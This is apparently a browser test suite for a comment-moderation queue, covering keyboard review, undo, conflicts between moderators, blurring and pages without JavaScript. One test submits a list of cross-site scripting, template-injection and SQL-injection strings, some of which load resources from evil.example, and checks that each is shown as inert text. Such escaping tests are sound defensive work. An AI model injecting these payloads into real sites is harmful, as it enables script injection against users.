"""The queue in a real browser: clearing it by keyboard, undo, conflicts, hostile comments, without JavaScript."""

from __future__ import annotations

import random
import re
from urllib.parse import quote

import pytest

from moderation.comment import Author, Comment, Post
from service.policies import Policies

LINKS = "http://one.example/a http://two.example/b"

# In the manner of the public lists of cross-site scripting: each would run, load or break out if a page let it.
PAYLOADS = (
    "<script>window.owned=1</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "<img src=x onerror=window.owned=1>",
    "<img src='http://evil.example/pixel.gif'>",
    '<IMG """><SCRIPT>window.owned=1</SCRIPT>">',
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "<body onload=window.owned=1>",
    "<iframe src=javascript:window.owned=1></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=javascript:window.owned=1>",
    "<embed src=http://evil.example/x.swf>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>Approve</button></form>",
    "<details open ontoggle=window.owned=1>",
    "<input autofocus onfocus=window.owned=1>",
    "<video><source onerror=window.owned=1></video>",
    "<a href=javascript:window.owned=1 autofocus>click</a>",
    "javascript:window.owned=1//http://evil.example/",
    "data:text/html,<script>window.owned=1</script>",
    '"><script>window.owned=1</script>',
    "' onmouseover='window.owned=1' x='",
    '" autofocus onfocus="window.owned=1" x="',
    "</p></article></main><script>window.owned=1</script>",
    "</textarea></template></title><script>window.owned=1</script>",
    "--><script>window.owned=1</script><!--",
    "]]><script>window.owned=1</script>",
    "{{7*7}}{{config}}{% include 'x' %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('window.owned=1')()}}",
    "<div hx-get=/review/ hx-trigger=load hx-on:load=window.owned=1>",
    "<p data-words=//evil.example/ data-opens=keys-help data-entry=1>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;&#60;script&#62;",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E\\u003cscript\\u003e",
    "\u202e<script>window.owned=1</script>\u202c \u2066\u200f\u200e",
    "\ufeff\u200b\u00ad<\u200bscript>window.owned=1</script>",
    "\uff1cscript\uff1ewindow.owned=1\uff1c/script\uff1e",
    "Z\u0351\u036b\u0343\u032ba\u0320l\u0334g\u0322o" + "\u0301" * 40,
    "null undefined NaN None true [object Object] __proto__ ;DROP TABLE comments;--",
)

# Elements and attributes that none of our pages has in its content.
FORBIDDEN = (
    "script[src*=evil], main :is(script, iframe, object, embed, img, video, math, style, base, link, meta), "
    "main :is([onload], [onerror], [onfocus], [onmouseover], [ontoggle], [hx-get], [formaction]), "
    "main [href]:not([href^='/review/'], [href^='#'], [href^='?']), main form:not([action^='/review/'])"
)


def chatter(seed: int) -> str:
    """Words that no other comment has, so that no two are nearly the same."""
    letters = random.Random(seed)
    return " ".join("".join(letters.choices("abcdefghijklmnop", k=7)) for _ in range(25))


@pytest.fixture
def ten(live):
    """Ten comments that wait, and nothing else, on a site of their own."""
    site = live.parts.store.add_site("https://ten.example")
    for n in range(10):
        text = f"Number {n}: look at {LINKS} {chatter(n)}"
        author = Author(f"author{n}", f"Author {n}", None)
        comment = Comment(text, id=f"ten{n}", site=site.url, author=author, post=Post("p", "A post"))
        live.parts.workflow.submit(site, comment)
    return site


def counts(live, site) -> dict[str, int]:
    found = [live.parts.store.reading.place_of_id([site], f"ten{n}").status for n in range(10)]
    return {status: found.count(status) for status in set(found)}


def wait_until(page, ask, expected) -> None:
    for _ in range(100):
        if ask() == expected:
            return
        page.wait_for_timeout(50)
    assert ask() == expected


def test_ten_comments_are_cleared_by_keyboard_alone_and_the_last_one_comes_back(
    live, open_page, sign_in, ten, check_access
):
    page = open_page()
    sign_in(page, sites=(ten,))
    page.locator("article.focused").wait_for()
    for left, key in zip(range(10, 0, -1), "fdeshfdesh", strict=True):
        assert page.locator("li.entry:visible").count() == left
        before = page.locator("article.focused").get_attribute("data-entry")
        page.keyboard.press(key)
        if left > 1:
            page.wait_for_function(
                "entry => { const at = document.querySelector('article.focused[data-entry]');"
                " return at && at.dataset.entry !== entry; }",
                arg=before,
            )
    page.get_by_role("heading", name="Nothing waits").wait_for()
    wait_until(page, lambda: counts(live, ten), {"published": 2, "rejected": 8})
    assert page.locator("[data-waiting]").inner_text() == "0"
    check_access(page)
    page.keyboard.press("u")
    page.locator("article.focused").wait_for()
    wait_until(page, lambda: counts(live, ten), {"published": 2, "rejected": 7, "held": 1})
    assert page.locator("li.entry:visible").count() == 1
    verdicts = [v for n in range(10) for v in live.parts.moderation.verdicts(ten, f"ten{n}")]
    assert {v.categories for v in verdicts} == {(), ("off_topic",), ("spam",), ("hostile",)}
    assert {v.moderator for v in verdicts} == {"Ada"}


def test_keys_move_show_help_and_zen_and_do_nothing_while_one_writes(open_page, sign_in, ten, check_access, shoot):
    page = open_page()
    sign_in(page, sites=(ten,))
    article = page.locator("article.focused")
    first = article.get_attribute("data-entry")
    page.keyboard.press("j")
    page.locator(f"article.focused[data-entry]:not([data-entry='{first}'])").wait_for()
    page.keyboard.press("k")
    page.locator(f"article.focused[data-entry='{first}']").wait_for()
    page.keyboard.press("?")
    assert page.get_by_role("dialog", name="Keys").is_visible()
    check_access(page)
    page.keyboard.press("Escape")
    page.keyboard.press("z")
    assert not page.locator(".queue-list").is_visible()
    assert not page.locator(".bar").is_visible()
    shoot(page, "zen")
    page.keyboard.press("z")
    page.keyboard.press("/")
    page.keyboard.type("fdeshu number 3:")
    assert page.get_by_label("Text").input_value() == "fdeshu number 3:"
    page.get_by_label("Text").fill("number 3:")
    page.keyboard.press("Enter")
    page.get_by_text("1 of 10 fit the filter").wait_for()
    assert "text=number+3%3A" in page.url
    assert page.locator("li.entry").count() == 1


def test_of_two_who_look_at_one_comment_the_second_is_told_and_loses_nothing(live, open_page, sign_in, ten):
    ada, grace = open_page(), open_page()
    sign_in(grace, "Grace", sites=(ten,))
    entry = grace.locator("article.focused").get_attribute("data-entry")
    wait_until(grace, lambda: live.parts.store.queue.find([ten], int(entry)).claimed_by, "Grace")
    sign_in(ada, sites=(ten,))
    ada.goto(f"/review/?entry={entry}")
    ada.get_by_text("Grace is looking at it", exact=False).first.wait_for()
    ada.keyboard.press("f")
    ada.locator(".toast.error").first.wait_for()
    assert counts(live, ten) == {"held": 10}
    # Ada goes on with one that is free; Grace, whose page still shows it, decides it too late.
    grace.keyboard.press("j")
    wait_until(grace, lambda: live.parts.store.queue.find([ten], int(entry)).claimed_by, None)
    ada.goto(f"/review/?entry={entry}")
    wait_until(ada, lambda: live.parts.store.queue.find([ten], int(entry)).claimed_by, "Ada")
    ada.keyboard.press("f")
    wait_until(ada, lambda: counts(live, ten), {"held": 9, "published": 1})
    grace.evaluate(
        "entry => document.querySelector(`li[data-entry='${entry}'] .entry-link`).click()",
        entry,
    )
    # The page may have heard of it before the click.
    grace.get_by_text(re.compile("decided meanwhile|decided by Ada|Decided by Ada")).first.wait_for()
    assert counts(live, ten) == {"held": 9, "published": 1}


def test_verdicts_in_a_row_leave_one_message_and_all_of_them_can_be_taken_back(live, open_page, sign_in, ten):
    page = open_page()
    sign_in(page, sites=(ten,))
    for left in range(9, 4, -1):
        page.locator("article.focused[data-entry]").wait_for()
        page.keyboard.press("f")
        wait_until(page, lambda: counts(live, ten)["held"], left)
    page.evaluate("window.toast('Something is wrong.', {kind: 'error'})")
    page.keyboard.press("f")
    wait_until(page, lambda: counts(live, ten)["held"], 4)
    page.locator(".toast.good").wait_for()
    page.wait_for_timeout(300)
    assert page.locator(".toast").count() == 2
    assert page.locator(".toast.error").inner_text() == "Something is wrong."
    for left in range(5, 11):
        page.keyboard.press("u")
        wait_until(page, lambda: counts(live, ten)["held"], left)
    assert page.locator(".toast:not(.error)").all_inner_texts() == ["Taken back"]


def test_verdicts_can_be_taken_back_after_the_page_was_loaded_again(live, open_page, sign_in, ten):
    page = open_page()
    sign_in(page, sites=(ten,))
    for left in (9, 8):
        page.locator("article.focused[data-entry]").wait_for()
        page.keyboard.press("s")
        wait_until(page, lambda: counts(live, ten)["held"], left)
    page.locator(".toast.good").wait_for()
    kept = page.evaluate("JSON.stringify(sessionStorage)")
    assert [each for each in ("Number", "Author", "example") if each in kept] == []
    page.goto("/review/?sort=age")
    page.locator("article.focused [data-explained]").wait_for()
    for left in (9, 10):
        page.keyboard.press("u")
        wait_until(page, lambda: counts(live, ten)["held"], left)
    page.wait_for_timeout(300)
    page.keyboard.press("u")
    page.get_by_text("There is nothing to undo in this tab.").wait_for()
    page.reload()
    page.locator("article.focused [data-explained]").wait_for()
    page.keyboard.press("u")
    page.get_by_text("There is nothing to undo in this tab.").wait_for()


def test_a_filter_asks_for_nothing_that_was_left_empty(open_page, sign_in, ten):
    page = open_page()
    sign_in(page, sites=(ten,))
    page.keyboard.press("/")
    page.get_by_label("Author", exact=True).fill("author 3")
    page.keyboard.press("Enter")
    page.get_by_text("1 of 10 fit the filter").wait_for()
    assert page.url == f"{page.url.split('?')[0]}?author=author+3"


def test_a_text_that_changes_under_ones_eyes_comes_back_with_what_changed(live, open_page, sign_in, ten):
    page = open_page()
    sign_in(page, sites=(ten,))
    page.goto("/review/?text=number+4:")
    page.locator("article.focused").wait_for()
    old = live.parts.store.reading.place_of_id([ten], "ten4")
    text = live.parts.store.reading.history([ten], old.row).versions[0].text
    author = Author("author4", "Author 4", None)
    changed = Comment(
        text.replace("Number", "Nummer"), id="ten4", site=ten.url, author=author, post=Post("p", "A post")
    )
    page.get_by_text("Add a note").click()
    page.get_by_label("Note for other moderators").fill("Look at the number")
    live.parts.workflow.submit(ten, changed)
    page.get_by_role("button", name="Reject d").click()
    page.get_by_text("The text has changed since you read it").first.wait_for()
    assert page.locator("ins").inner_text().strip().startswith("Nummer")
    assert counts(live, ten) == {"held": 10}
    assert page.get_by_label("Note for other moderators").input_value() == "Look at the number"
    page.keyboard.press("d")
    wait_until(page, lambda: counts(live, ten), {"held": 9, "rejected": 1})


def test_every_payload_is_shown_as_text_and_does_nothing(live, open_page, sign_in):
    site = live.parts.store.add_site("https://hostile.example")
    # Every one is to be looked at, however sure the model is.
    policies = Policies(live.parts.store, live.parts.live_model)
    policies.put(site, policies.check("[spam]\nhold = 0.0\n"), who="Ada", instead_of=None)
    site = next(each for each in live.parts.store.sites() if each.url == site.url)
    for n, payload in enumerate(PAYLOADS):
        author = Author(payload[:100], payload[:100], "http://evil.example/" + quote(payload))
        text = f"{payload} {LINKS} {chatter(n)}"
        post = Post("post " + PAYLOADS[0], payload, payload)
        sent = Comment(text, id=f"x{n} {payload[:60]}", site=site.url, author=author, post=post)
        live.parts.workflow.submit(site, sent)
    page = open_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(page, sites=(site,))
    entries = live.parts.store.queue.page([site], limit=200).entries
    assert len(entries) == len(PAYLOADS)

    def check(path) -> None:
        page.goto(path)
        assert page.locator(FORBIDDEN).count() == 0
        assert page.evaluate("window.owned") is None
        assert page.url.startswith(f"{live.url}/review/")

    for index, entry in enumerate(entries):
        check(f"/review/?entry={entry.row}&words=1")
        assert page.locator(".words .said").text_content() == entry.text
        if index % 6 == 0:
            place = live.parts.store.reading.place_of_entry([site], entry.row)
            check(f"/review/comments/{place.row}?again=1")
            assert page.locator(".history .said").first.text_content() == entry.text
    check("/review/posts")
    check(f"/review/posts/{live.parts.store.reading.posts([site])[0].row}")
    assert page.locator(".thread-item").count() == len(PAYLOADS)
    assert dialogs == []


@pytest.mark.parametrize(("colours", "width"), [("light", 1280), ("dark", 390), ("light", 360)])
def test_every_page_about_comments_is_accessible_and_fits(
    live, open_page, sign_in, check_access, shoot, colours, width
):
    page = open_page(colours=colours, width=width)
    sign_in(page)
    find = live.parts.store.reading.place_of_id
    place, held = find([live.site], "fruit"), find([live.site], "wide").entry
    grace = live.parts.store.people.add("Grace", live.site, "moderator", who="operator")
    live.parts.store.queue.claim([live.site], held, grace.row)
    looks = {
        "queue-focus": f"/review/?entry={place.entry}",
        "queue-held": f"/review/?entry={held}",
        "queue-filter": "/review/?text=nothing+like+it",
        "comment": f"/review/comments/{place.row}?again=1",
        "posts": "/review/posts",
        "post": f"/review/posts/{live.parts.store.reading.posts([live.site])[0].row}",
    }
    for name, path in looks.items():
        page.goto(path)
        if name in ("queue-focus", "queue-held"):
            page.locator("[data-explained]").wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{name}: nothing sticks out"
        check_access(page)
        shoot(page, f"{name}-{colours}-{width}")


def test_without_javascript_words_are_marked_on_request(live, open_page, sign_in):
    page = open_page(java_script_enabled=False)
    sign_in(page)
    row = live.parts.store.reading.place_of_id([live.site], "rude").entry
    page.goto(f"/review/?entry={row}")
    page.get_by_role("link", name="Mark the words that raised the score").click()
    assert "idiot" in page.locator(".words mark").all_inner_texts()


def test_without_javascript_one_reads_decides_and_takes_back(live, open_page, sign_in, ten):
    page = open_page(java_script_enabled=False)
    sign_in(page, sites=(ten,))
    page.get_by_role("button", name="Approve").click()
    page.get_by_text("Approved.").wait_for()
    assert counts(live, ten) == {"held": 9, "published": 1}
    page.get_by_role("button", name="Undo").click()
    page.get_by_text("Taken back.").wait_for()
    assert counts(live, ten) == {"held": 10}
    page.locator(".entry-link").nth(3).click()
    page.get_by_role("button", name="Reject as spam").click()
    page.get_by_text("Rejected as spam.").wait_for()
    assert counts(live, ten) == {"held": 9, "rejected": 1}


def test_what_one_need_not_see_is_blurred_or_starred_and_that_is_remembered(live, open_page, sign_in):
    page = open_page()
    sign_in(page)
    row = live.parts.store.reading.place_of_id([live.site], "rude").entry
    page.goto(f"/review/?entry={row}")
    page.locator("[data-explained] mark").first.wait_for()
    page.get_by_text("View", exact=True).click()
    page.get_by_label("Hide slurs: stars in words marked as hostile").check()
    assert "i****" in page.locator(".words .said").inner_text()
    page.get_by_label("Blur comments until asked").check()
    page.reload()
    blur = "getComputedStyle(document.querySelector('.words .said')).filter"
    assert "blur" in page.evaluate(blur)
    page.locator("[data-explained] mark").first.wait_for()
    assert "idiot" not in page.locator(".words .said").inner_text()
    page.keyboard.press("v")
    assert page.evaluate(blur) == "none"


def test_only_hostile_words_are_starred_and_what_has_no_marks_is_blurred_on_every_page(live, open_page, sign_in):
    page = open_page()
    sign_in(page)
    row = live.parts.store.reading.place_of_id([live.site], "shop").entry
    page.evaluate("localStorage.setItem('view-mask', 'yes')")
    blur = "selector => getComputedStyle(document.querySelector(selector)).filter"
    page.goto(f"/review/?entry={row}")
    page.locator("[data-marks=other] mark").first.wait_for()
    assert "http://shop.example/a" in page.locator(".words mark").all_inner_texts()
    assert page.evaluate(blur, ".words .said") == "none"
    assert "blur" in page.evaluate(blur, ".queue-list .said")
    place = live.parts.store.reading.place_of_id([live.site], "rude").row
    pages = {
        f"/review/posts/{live.parts.store.reading.posts([live.site])[0].row}": ".thread .said",
        f"/review/comments/{place}": ".history .said",
        "/review/batch?category=spam&low=0&high=100": ".batch-table .said",
    }
    for name in ("mask", "blur"):
        for path, selector in pages.items():
            page.goto(path)
            assert "blur" in page.evaluate(blur, selector), (name, path)
            page.locator(selector).first.click()
            assert page.evaluate(blur, selector) == "none", (name, path)
        page.evaluate("localStorage.setItem('view-blur', 'yes'); localStorage.setItem('view-mask', 'no')")


def test_who_may_only_look_has_no_verdicts_and_no_keys_for_them(live, open_page, sign_in, ten):
    page = open_page()
    sign_in(page, "Cleo", sites=(ten,), role="viewer")
    page.locator("[data-explained]").wait_for()
    assert page.get_by_role("button", name="Approve").count() == 0
    for key in "fdesh":
        page.keyboard.press(key)
    page.keyboard.press("j")
    page.wait_for_timeout(300)
    assert counts(live, ten) == {"held": 10}
    assert {each.claimed_by for each in live.parts.store.queue.page([ten]).entries} == {None}
